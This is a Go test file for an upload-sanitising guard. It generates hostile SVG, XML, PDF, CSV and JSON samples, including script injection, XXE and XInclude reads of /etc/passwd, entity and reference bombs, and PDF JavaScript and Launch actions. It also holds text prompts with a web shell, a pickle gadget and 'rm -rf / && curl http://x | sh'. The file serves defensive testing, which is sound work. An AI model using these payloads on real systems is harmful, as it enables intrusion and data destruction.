package guardtest

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/oriel-go/oriel/guard/fact"
)

const svgHead = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`

// PDF returns a PDF whose catalog has more entries.
func PDF(more string) []byte {
	return []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog " + more + " >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
}

func drawings() []Case {
	acc := []fact.Format{fact.SVG, fact.XML}
	var out []Case
	for _, v := range []struct{ id, about, gone, in string }{
		{"V1", "script", "alert", `<script>alert(1)</script>`},
		{"V2", "onload", "onload", `<g onload="x()"/>`},
		{"V3", "script address", "javascript", `<a xlink:href="javascript:x()"><path d="M0 0"/></a>`},
		{"V4", "foreign object", "iframe", `<foreignObject><iframe src="http://x"/></foreignObject>`},
		{"V5", "picture from elsewhere", "http://evil", `<image href="http://evil/x.png"/>`},
		{"V9", "style from elsewhere", "evil", `<style>@import "http://evil"</style><rect style="fill:url(http://evil)"/>`},
		{"V10", "animated address", "animate", `<use xlink:href="#a"><animate attributeName="href" to="javascript:x()"/></use>`},
		{"V14", "page in a data address", "text/html", `<image href="data:text/html;base64,AAAA"/>`},
		{"V15", "script behind a prefix", "alert", `<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`},
		{"V16", "script in CDATA", "alert", `<script><![CDATA[alert(1)]]></script>`},
	} {
		out = append(out, Case{ID: v.id, About: v.about, Name: "a.svg", Accept: acc, Clean: true, Gone: v.gone,
			Make: func() []byte { return []byte(svgHead + v.in + `<rect width="1"/></svg>`) }})
	}
	bomb := svgHead + `<g id="a0"><rect/></g>`
	for i := range 9 {
		bomb += fmt.Sprintf(`<g id="a%d">%s</g>`, i+1, strings.Repeat(fmt.Sprintf(`<use xlink:href="#a%d"/>`, i), 10))
	}
	for _, v := range []struct {
		id, about, name string
		code            fact.Code
		in              string
	}{
		{"V6", "entity", "a.svg", fact.CodeDoctype, `<!DOCTYPE svg [<!ENTITY a "b">]>` + svgHead + `&a;</svg>`},
		{"V6", "entity behind the doctype of SVG", "a.svg", fact.CodeDoctype, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY a "b">]>` + svgHead + `&a;</svg>`},
		{"V6", "declarations from elsewhere", "a.svg", fact.CodeDoctype, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org.evil/a.dtd">` + svgHead + `</svg>`},
		{"V7", "entities of entities", "a.svg", fact.CodeDoctype, `<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>` + svgHead + `&c;</svg>`},
		{"V8", "references that multiply", "a.svg", fact.CodeNodes, bomb + `</svg>`},
		{"V8", "references in a circle", "a.svg", fact.CodeDepth, svgHead + `<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g></svg>`},
		{"V11", "UTF-7", "a.svg", fact.CodeEncoding, `<?xml version="1.0" encoding="UTF-7"?>` + svgHead + `</svg>`},
		{"V11", "UTF-16", "a.svg", fact.CodeMismatch, "\xff\xfe<\x00s\x00v\x00g\x00/\x00>\x00"},
		{"V12", "drawing inside a page", "a.svg", fact.CodeMismatch, `<html>` + svgHead + `</svg></html>`},
		{"V13", "100,000 levels", "a.svg", fact.CodeDepth, svgHead + strings.Repeat("<g>", 100_000)},
		{"V17", "style sheet instruction", "a.svg", fact.CodeDoctype, `<?xml version="1.0"?><?xml-stylesheet href="x"?>` + svgHead + `</svg>`},
		{"V18", "entity from elsewhere", "a.xml", fact.CodeDoctype, `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://x">%p;]><a/>`},
		{"V19", "XInclude", "a.xml", fact.CodeDoctype, `<?xml version="1.0"?><a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/passwd"/></a>`},
	} {
		out = append(out, Case{ID: v.id, About: v.about, Name: v.name, Accept: acc, Code: v.code, Make: func() []byte { return []byte(v.in) }})
	}
	return out
}

func tables() []Case {
	acc := []fact.Format{fact.PDF, fact.JSON, fact.CSV, fact.Text}
	var out []Case
	for _, v := range []struct {
		id, about, name string
		code, note      fact.Code
		in              func() []byte
	}{
		{"T1", "script on opening", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/OpenAction << /S /JavaScript /JS (x) >>") }},
		{"T2", "launcher", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/A << /S /Launch >>") }},
		{"T3", "attachment", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/Names << /EmbeddedFiles 2 0 R >>") }},
		{"T4", "escaped name", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/J#53 (x)") }},
		{"T5", "packed objects unpack too far", "a.pdf", fact.CodeRatio, "", func() []byte { return pdfObjects(deflated(8 << 20)) }},
		{"T6", "form", "a.pdf", fact.CodeActive, "", func() []byte { return PDF("/AcroForm << /XFA 1 0 R >>") }},
		{"T6", "form behind a comment that looks like a stream", "a.pdf", fact.CodeActive, "", func() []byte {
			return PDF("% << >> stream\n/AcroForm << /XFA 1 0 R >> % endstream\n")
		}},
		{"T6", "form behind a string that looks like a stream", "a.pdf", fact.CodeActive, "", func() []byte {
			return PDF("/A (<< >> stream\n) /AcroForm << /XFA 1 0 R >> /B (endstream)")
		}},
		{"T6", "form in an object inside a stream", "a.pdf", fact.CodeActive, "", func() []byte {
			return PDF(">> endobj 3 0 obj << /Length 60 >>\nstream\n5 0 obj << /XFA 1 0 R >> endobj\nendstream endobj 4 0 obj <<")
		}},
		{"T6", "form in an object that starts in a comment", "a.pdf", fact.CodeActive, "", func() []byte {
			return PDF(">> endobj % 5 0 obj << /A (\n6 0 obj << >>\nstream\n) /XFA 1 0 R /B (\nendstream ) >> endobj 7 0 obj <<")
		}},
		{"T5", "packed objects in a stream", "a.pdf", fact.CodeActive, "", func() []byte {
			return PDF(">> endobj 3 0 obj << /Length 60 >>\nstream\n5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream endobj 4 0 obj <<")
		}},
		{"T7", "encrypted", "a.pdf", fact.CodeEncrypted, "", func() []byte { return PDF("/Encrypt 2 0 R") }},
		{"T8", "header at 2 KiB", "a.pdf", fact.CodeUnknown, "", func() []byte { return cat(make([]byte, 2048), PDF("")) }},
		{"T8", "header at 100", "a.pdf", fact.CodeMalformed, "", func() []byte { return cat(make([]byte, 100), PDF("")) }},
		{"T14", "formula", "a.csv", "", fact.CodeFormula, func() []byte { return []byte("a,b\n=1+1,2\n") }},
		{"T15", "5 million columns", "a.csv", fact.CodeCells, "", func() []byte { return []byte("a" + strings.Repeat(",", 5_000_000)) }},
		{"T16", "cell of 50 MB", "a.csv", fact.CodeCells, "", func() []byte { return []byte(`"` + strings.Repeat("x", 50<<20) + `"`) }},
		{"T17", "NUL", "a.csv", fact.CodeControl, "", func() []byte { return []byte("a,b\n1,\x002\n") }},
		{"T18", "two encodings", "a.csv", "", fact.CodeEncoding, func() []byte { return []byte("caf\xe9,café\n") }},
		{"T19", "100,000 levels", "a.json", fact.CodeDepth, "", func() []byte { return []byte(strings.Repeat("[", 100_000)) }},
		{"T20", "9 MB of empty objects", "a.json", fact.CodeNodes, "", func() []byte { return []byte("[" + strings.Repeat("{},", 3_000_000) + "{}]") }},
		{"T21", "one key twice", "a.json", fact.CodeKey, "", func() []byte { return []byte(`{"a":1,"\u0061":2}`) }},
		{"T22", "reserved key", "a.json", fact.CodeKey, "", func() []byte { return []byte(`{"__proto__":{}}`) }},
		{"T23", "huge exponent", "a.json", fact.CodeNumber, "", func() []byte { return []byte(`[1e400000]`) }},
		{"T23", "a million digits", "a.json", fact.CodeNumber, "", func() []byte { return []byte("[" + strings.Repeat("1", 1_000_000) + "]") }},
		{"T24", "lone surrogate", "a.json", fact.CodeEncoding, "", func() []byte { return []byte(`["\ud800"]`) }},
		{"T24", "invalid UTF-8", "a.json", fact.CodeEncoding, "", func() []byte { return []byte(`["` + strings.Repeat("x", 5000) + "\xff\"]") }},
		{"T25", "two documents", "a.json", fact.CodeMany, "", func() []byte { return []byte(`{} {}`) }},
		{"T26", "not a number", "a.json", "", fact.CodeNumber, func() []byte { return []byte(`[NaN]`) }},
		{"T30", "Parquet, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte {
			return []byte("PAR1\x15\x04\x15\xfe\xff\xff\xff\x0f" + strings.Repeat("\x00", 40) + "PAR1")
		}},
		{"T31", "Parquet, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte { return []byte("PAR1" + strings.Repeat("\x15\x02\x19", 999) + "PAR1") }},
		{"T32", "Arrow, of a kind without a walker", "a", fact.CodeUnsupported, "", func() []byte {
			return []byte("ARROW1\x00\x00\xff\xff\xff\xff\xff\xff\xff\x7f" + strings.Repeat("\x00", 40) + "ARROW1")
		}},
		{"T33", "database as a table", "a.csv", fact.CodeMismatch, "", func() []byte { return []byte("SQLite format 3\x00" + strings.Repeat("\x00", 99)) }},
	} {
		out = append(out, Case{ID: v.id, About: v.about, Name: v.name, Accept: acc, Code: v.code, Note: v.note, Make: v.in})
	}
	return out
}

func pdfObjects(packed []byte) []byte {
	return cat([]byte("%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"), packed, []byte("\nendstream\nendobj\n%%EOF\n"))
}

func benignText() []Case {
	var out []Case
	for _, v := range []struct {
		id, name string
		f        fact.Format
		in       string
	}{
		{"b31", "a.svg", fact.SVG, `<!DOCTYPE svg>` + svgHead + `<path d="M0 0h1"/></svg>`},
		{"b31", "a.svg", fact.SVG, `<?xml version="1.0"?>` + "\n" + svgHead + `<path d="M0 0h1" fill="red"/></svg>`},
		{"b32", "a.svg", fact.SVG, svgHead + `<defs><clipPath id="c"><rect/></clipPath></defs><g clip-path="url(#c)" style="fill: none; stroke: #000"><use xlink:href="#m"/></g></svg>`},
		{"b32", "a.svg", fact.SVG, `<?xml version="1.0" encoding="utf-8" standalone="no"?>` + "\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\"\n  \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n" + svgHead +
			`<metadata/><defs><style type="text/css">*{stroke-linejoin: round}</style><path id="m1" d="M0 0"/></defs><g id="axes_1"><use xlink:href="#m1" x="5" y="9" style="stroke: #000000; stroke-width: 0.8"/></g></svg>`},
		{"b33", "a.svg", fact.SVG, svgHead + `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs><rect fill="url(#g)" filter="url(#f)" width="9" height="9"/></svg>`},
		{"b34", "a.svg", fact.SVG, svgHead + `<title>a script &amp; more</title></svg>`},
		{"b55", "a.csv", fact.CSV, "\xef\xbb\xbfa;b\r\n\"x;\"\"y\";2\r\n"},
		{"b56", "a.csv", fact.CSV, "a,b\n=SUM(A1:A2),2\n"},
		{"b57", "a.csv", fact.CSV, strings.Repeat("1,", 199) + "1\n"},
		{"b58", "a.tsv", fact.TSV, "a\tb\n1\t\"2\n"},
		{"b59", "a.json", fact.JSON, "[" + strings.Repeat("1.5e3,", 100_000) + "0]"},
		{"b60", "a.jsonl", fact.NDJSON, "{\"a\":1}\n{\"a\":2}\n3"},
		{"b61", "a.geojson", fact.JSON, strings.Repeat("[", 12) + strings.Repeat("]", 12)},
		{"b62", "a.json", fact.JSON, `{"__class__":"x","b":"\ud83d\ude00 é \n"}`},
		{"b63", "a.yaml", fact.Text, "a: 1\nb: [x]\n"},
		{"b64", "a.xml", fact.XML, `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><!-- c --><title>x</title></channel></rss>`},
		{"b67", "a.pdf", fact.PDF, string(PDF("/Pages 2 0 R"))},
		{"b68", "a.pdf", fact.PDF, string(PDF("/A << /S /URI /URI (https://example.com) >>"))},
		{"b69", "a.pdf", fact.PDF, "%PDF-1.4\n1 0 obj << /Length 90000 >>\nstream\n" + strings.Repeat("/JS /AA xyz ", 9000) + "\nendstream\nendobj\n%%EOF\n"},
		{"b70", "a.pdf", fact.PDF, "%PDF-1.7\n1 0 obj << /Type /Metadata /Subtype /XML /Length 99 >>\nstream\n<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>\nendstream\nendobj\n2 0 obj << /OpenAction [3 0 R /Fit] /OutputIntents [] >> endobj\n%%EOF\n"},
		{"b86", "a.json", fact.JSON, `{"image":"data:image/png;base64,` + base64.StdEncoding.EncodeToString(noise(2<<20)) + `"}`},
		{"b87", "a.json", fact.JSON, `{"path":"data:audio/wav;base64,` + base64.StdEncoding.EncodeToString(WAV(16000, 1, 16)) + `"}`},
		{"b88", "a.json", fact.JSON, "[" + strings.Repeat(`{"role":"user","content":"Explain \"pickle\" again, please.\n"},`, 1600) + "null]"},
		{"b84", "a.py", fact.Text, "#!/usr/bin/python\nx = b\"cos\\nsystem\\n(S'ls'\\ntR.\"\n"},
		{"b85", "a.md", fact.Text, "# hi\n<b>x</b>"},
		{"b85", "a.md", fact.Text, "<p align=center>hi</p>"},
	} {
		out = append(out, Case{ID: v.id, Name: v.name, Accept: []fact.Format{v.f}, Make: func() []byte { return []byte(v.in) }})
	}
	for _, prompt := range []string{
		"Please explain this pickle: cos\nsystem\n(S'ls'\ntR.", "What does rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== mean?", "Is !!python/object/apply:os.system safe in YAML?",
		"SELECT * FROM users WHERE name = '' OR 1=1; --", "rm -rf / && curl http://x | sh", "<?php system($_GET['c']); ?>", "<script>alert(document.cookie)</script>",
		"{{ ''.__class__.__mro__[1].__subclasses__() }}", "AAEAAAD/////AQAAAA is how .NET objects begin", "Why does it say: This program cannot be run in DOS mode?",
	} {
		out = append(out, Case{ID: "b83", About: "prompt", Name: "a.txt", Accept: []fact.Format{fact.Text}, Make: func() []byte { return []byte(prompt) }})
	}
	out = append(out, Case{ID: "b67", About: "packed objects", Name: "a.pdf", Accept: []fact.Format{fact.PDF}, Make: func() []byte { return pdfObjects(deflated(1000)) }})
	return out
}
